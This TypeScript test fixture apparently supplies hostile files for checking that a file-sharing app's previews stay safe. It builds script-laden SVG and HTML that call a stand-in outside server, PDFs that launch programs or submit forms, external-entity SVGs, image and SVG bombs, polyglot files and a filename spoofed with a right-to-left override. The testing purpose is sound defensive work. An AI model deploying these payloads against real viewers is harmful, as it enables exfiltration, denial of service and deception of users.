import { GIF, named, pdf, png } from "./preview-files.ts";
import type { Item } from "./shares.ts";

export interface HostileFile {
  item: Item;
  /** What the recipient sees: the content, or that there is no preview. */
  outcome: "shown" | "none";
  /** What a recipient with Firefox sees, if it is something else. */
  inFirefox?: "shown" | "none";
}

/** A script that tries everything. `stranger`: the address of another server. */
function attack(stranger: string): string {
  return [
    `for (const call of [`,
    `() => fetch("${stranger}/fetch"),`,
    `() => new WebSocket("${stranger.replace("http", "ws")}/socket"),`,
    `() => navigator.sendBeacon("${stranger}/beacon"),`,
    `() => { new Image().src = "${stranger}/image" },`,
    `() => localStorage.setItem("attacked", "1"),`,
    `() => { document.cookie = "attacked=1" },`,
    `() => open("${stranger}/window"),`,
    `() => parent.postMessage("attacked", "*"),`,
    `() => { top.document.title = "attacked" },`,
    `() => { top.location = "${stranger}/navigated" },`,
    `() => alert("attacked"),`,
    `]) { try { call(); } catch {} }`,
  ].join(" ");
}

/** A page that attacks with and without script. */
export function hostilePage(stranger: string): string {
  return `<!doctype html><html><head><meta http-equiv="refresh" content="0;url=${stranger}/refresh">
    <link rel="stylesheet" href="${stranger}/style"><link rel="preconnect" href="${stranger}">
    <style>@import "${stranger}/import"; body { background: url(${stranger}/background) }</style>
    <script>${attack(stranger)}</script><script src="${stranger}/script"></script></head>
    <body onload='${attack(stranger)}'><img src="${stranger}/picture" onerror='${attack(stranger)}'>
    <iframe src="${stranger}/frame"></iframe><object data="${stranger}/object"></object>
    <video src="${stranger}/film" autoplay></video><form action="${stranger}/form"></form></body></html>`;
}

/** Files that no preview may obey, each in one share. */
export function hostileFiles(stranger: string): Record<string, HostileFile> {
  const page = hostilePage(stranger);
  const svg = (content: string, before = "", attributes = "") =>
    `${before}<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9" ${attributes}>${content}<circle r="4"/></svg>`;
  const script = attack(stranger);
  const shown = (name: string, content: string | Uint8Array): HostileFile => ({
    item: named(name, content),
    outcome: "shown",
  });
  const none = (name: string, content: string | Uint8Array): HostileFile => ({
    item: named(name, content),
    outcome: "none",
  });
  const action = (what: string) => pdf({ catalogue: `/OpenAction << ${what} >>` });
  const link = `<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (${stranger}/link) >> >>`;
  const field = `<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (b) /Rect [0 0 99 99] /AA << /PV << /S /SubmitForm /F (${stranger}/form) >> >> >>`;
  return {
    "an SVG with scripts": shown(
      "script.svg",
      svg(`<script>${script}</script><script href="${stranger}/s"/>`, "", `onload='${script}'`),
    ),
    "an SVG with HTML inside": shown(
      "foreign.svg",
      svg(
        `<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${stranger}/f"/><img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror='${script}'/></foreignObject>`,
      ),
    ),
    "an SVG with references to another server": shown(
      "references.svg",
      svg(
        `<style>@import "${stranger}/i"; @font-face { font-family: f; src: url(${stranger}/f) } text { font-family: f; fill: url(${stranger}/p#p) }</style><text>a</text><image href="${stranger}/i" width="9" height="9"/><use href="${stranger}/u#u"/><use xlink:href="${stranger}/x#x"/><feImage href="${stranger}/fe"/><animate attributeName="href" to="${stranger}/a"/>`,
        `<?xml version="1.0"?>`,
      ),
    ),
    "an SVG with a style sheet of another server": none(
      "sheet.svg",
      svg("", `<?xml-stylesheet href="${stranger}/sheet"?>`),
    ),
    "an SVG with a document type of another server": shown(
      "type.svg",
      svg("", `<!DOCTYPE svg SYSTEM "${stranger}/type">`),
    ),
    "an SVG with an external entity": shown(
      "entity.svg",
      svg("&e;", `<!DOCTYPE svg [<!ENTITY e SYSTEM "${stranger}/entity">]>`),
    ),
    "an SVG that draws ten billion circles": none("bomb.svg", svg(uses(10, 10))),
    "an SVG whose patterns consist of each other": none("patterns.svg", svg(patterns(10, 10))),
    "an SVG whose style sheet makes patterns consist of each other": none(
      "styled.svg",
      svg(`<style>rect { fill: url(#p1) } circle { fill: url(#p2) } path { fill: url(#p3) }</style>
        ${[1, 2, 3].map((n) => `<pattern id="p${n}">${"<rect/><circle/><path/>".repeat(99)}</pattern>`).join("")}`),
    ),
    "an SVG whose circles are hidden from a reader of UTF-8": none(
      "encoded.svg",
      Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(svg(uses(10, 10)), "utf16le")]),
    ),
    "an SVG whose circles are a comment in one encoding alone": none(
      "japanese.svg",
      svg(
        `\x1b$B<!--\x1b(B${uses(10, 10)}<!-- -->`,
        `<?xml version="1.0" encoding="iso-2022-jp"?>`,
      ),
    ),
    "an SVG that writes its references in another way": none(
      "escaped.svg",
      svg(uses(10, 10).replaceAll(/href="#g/g, 'href="#%67')),
    ),
    "an SVG whose animations refer to ten billion circles": none(
      "animated.svg",
      svg(
        uses(10, 10).replaceAll(
          /<use href="(#g\d)"\/>/g,
          '<use href="#a"><set attributeName="href" to="$1"/></use>',
        ),
      ),
    ),
    "an SVG whose elements inherit patterns": none(
      "inherited.svg",
      svg(
        Array.from(
          { length: 10 },
          (_, level) =>
            `<pattern id="p${level}" width="1" height="1"><g fill="url(#p${level - 1})">${'<rect width="9" height="9"/>'.repeat(10)}</g></pattern>`,
        ).join(""),
      ),
    ),
    "an SVG whose rules hide their references": none(
      "rules.svg",
      svg(`<style>:root { --p: url(#p) } rect { fill: var(--p) }</style><rect/>`),
    ),
    "an SVG whose paints hide their references": none(
      "paints.svg",
      svg(`<pattern id="p"><rect/></pattern><rect fill="url(\\23 p)"/>`),
    ),
    "an SVG that draws two circles of references": none(
      "circles.svg",
      svg(`<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>`),
    ),
    "an SVG with a picture inside, which may be of any size": none(
      "inside.svg",
      svg(`<image width="9" height="9" href="&#100;a&#10;ta:image/png;base64,AAAA"/>`),
    ),
    "an SVG with gradients, clips and markers": shown(
      "plain.svg",
      svg(
        `<style>.a { fill: #c00; stroke: url(#s) }</style><linearGradient id="s"><stop stop-color="#fff"/></linearGradient>
        <clipPath id="c"><rect width="9" height="9"/></clipPath><marker id="m"><path d="M0 0h1"/></marker>
        <g clip-path="url(#c)" fill="url('#s')"><path class="a" marker-end="url(#m)" d="M0 0h9v9z" style="stroke: #00c"/></g>`,
        `<?xml version="1.0" encoding="iso-8859-1"?>`,
      ),
    ),
    "HTML named .png": shown("page.png", page),
    "HTML named .pdf": shown("page.pdf", page),
    "HTML named .txt": shown("page.txt", page),
    "HTML with the type text/html": {
      item: { ...named("page.html", page), type: "text/html" },
      outcome: "shown",
    },
    "Markdown with HTML": shown(
      "read.md",
      `# Hello\n\n<script>${script}</script>\n\n![a](${stranger}/a)`,
    ),
    "a PDF with a script": shown(
      "script.pdf",
      action(
        `/S /JavaScript /JS (app.launchURL\\("${stranger}/js"\\); app.alert\\("attacked"\\);)`,
      ),
    ),
    "a PDF that opens an address": shown("uri.pdf", action(`/S /URI /URI (${stranger}/uri)`)),
    "a PDF that starts a program": shown(
      "launch.pdf",
      action(`/S /Launch /F (${stranger}/launch) /Win << /F (calc.exe) >>`),
    ),
    "a PDF that opens another PDF": shown(
      "remote.pdf",
      action(`/S /GoToR /F << /FS /URL /F (${stranger}/remote) >> /D [0 /Fit]`),
    ),
    "a PDF that sends a form": shown(
      "form.pdf",
      pdf({
        catalogue: `/AcroForm << /Fields [20 0 R] /XFA 21 0 R >> /OpenAction << /S /SubmitForm /F (${stranger}/submit) >>`,
        page: `/Annots [20 0 R] /AA << /O << /S /SubmitForm /F (${stranger}/page) >> >>`,
        objects: {
          20: field,
          21: stream(`<template><event><submit target="${stranger}/xfa"/></event></template>`),
        },
      }),
    ),
    "a PDF whose page is one large link": shown(
      "link.pdf",
      pdf({ page: "/Annots [20 0 R]", objects: { 20: link } }),
    ),
    "a PDF with an attached page": shown(
      "attached.pdf",
      pdf({
        catalogue: "/Names << /EmbeddedFiles << /Names [(page.html) 20 0 R] >> >>",
        objects: {
          20: "<< /Type /Filespec /F (page.html) /EF << /F 21 0 R >> >>",
          21: stream(page),
        },
      }),
    ),
    "a PDF whose content is on another server": shown(
      "external.pdf",
      pdf({
        page: "/Contents 20 0 R",
        objects: {
          20: `<< /Length 0 /F << /FS /URL /F (${stranger}/stream) >> >>\nstream\n\nendstream`,
        },
      }),
    ),
    "a PDF with a page of a million kilometres": shown(
      "large.pdf",
      pdf({ page: "/MediaBox [0 0 9999999999 9999999999]" }),
    ),
    "a GIF that is a script too": shown(
      "polyglot.gif",
      Buffer.concat([Buffer.from("GIF89a"), GIF.subarray(6), Buffer.from(`*/=1;${script}`)]),
    ),
    "a PDF that is HTML too": shown("polyglot.pdf", Buffer.concat([pdf(), Buffer.from(page)])),
    "HTML with a PDF inside": shown("inside.pdf", Buffer.concat([Buffer.from(page), pdf()])),
    "a PNG that is HTML too": shown("polyglot.png", Buffer.concat([png(2, 2), Buffer.from(page)])),
    "a PNG of 60,000 by 60,000 pixels": none(
      "bomb.png",
      png(9, 9, { width: 60_000, height: 60_000 }),
    ),
    "a GIF of 65,535 by 65,535 pixels": none(
      "bomb.gif",
      Buffer.concat([Buffer.from("GIF89a"), Buffer.alloc(4, 255), GIF.subarray(10)]),
    ),
    "a PNG that claims to be smaller than it is": {
      ...shown("short.png", png(900, 900, { width: 9, height: 9 })),
      inFirefox: "none",
    },
    "an AVIF that may be larger than it claims": none(
      "small.avif",
      Buffer.concat([
        Buffer.from("\0\0\0\x14ftypavif\0\0\0\0avif\0\0\0\x14ispe\0\0\0\0", "latin1"),
        Buffer.from("0000000900000009", "hex"),
      ]),
    ),
    "a damaged picture": none("damaged.png", png(9, 9).subarray(0, 40)),
    "a damaged PDF": none("damaged.pdf", "%PDF-1.7\nnothing"),
    "a damaged film": none("damaged.webm", Buffer.from("1a45dfa3ffffffffffffff00", "hex")),
    "a playlist with the name and the type of a film": {
      item: {
        ...named("film.mp4", `#EXTM3U\n#EXT-X-VERSION:3\n#EXTINF:9,\n${stranger}/film.ts\n`),
        type: "video/mp4",
      },
      outcome: "shown",
    },
    "a playlist": shown(
      "list.m3u8",
      `#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n${stranger}/a.m3u8\n`,
    ),
    "a film after a playlist": none(
      "list.bin",
      Buffer.concat([Buffer.from(`#EXTM3U\n${stranger}/a.ts\n`), Buffer.alloc(99)]),
    ),
    "a text that reads in another order": shown("bidi.txt", "invoice\u202etxt.exe\u2066\u200b"),
  };
}

function stream(content: string): string {
  return `<< /Length ${content.length} >>\nstream\n${content}\nendstream`;
}

/** Groups that each draw the one before several times. */
function uses(levels: number, times: number): string {
  const groups = Array.from({ length: levels }, (_, level) => {
    const use = level === 0 ? "<circle r='1'/>" : `<use href="#g${level - 1}"/>`;
    return `<g id="g${level}">${use.repeat(times)}</g>`;
  });
  return groups.join("");
}

/** Patterns that each consist of the one before several times. */
function patterns(levels: number, times: number): string {
  const all = Array.from({ length: levels }, (_, level) => {
    const part = `<rect width="9" height="9" fill="url('#p${level - 1}')"/>`;
    return `<pattern id="p${level}" width="1" height="1">${part.repeat(times)}</pattern>`;
  });
  return `${all.join("")}<rect width="9" height="9" style="fill: url(#p${levels - 1})"/>`;
}
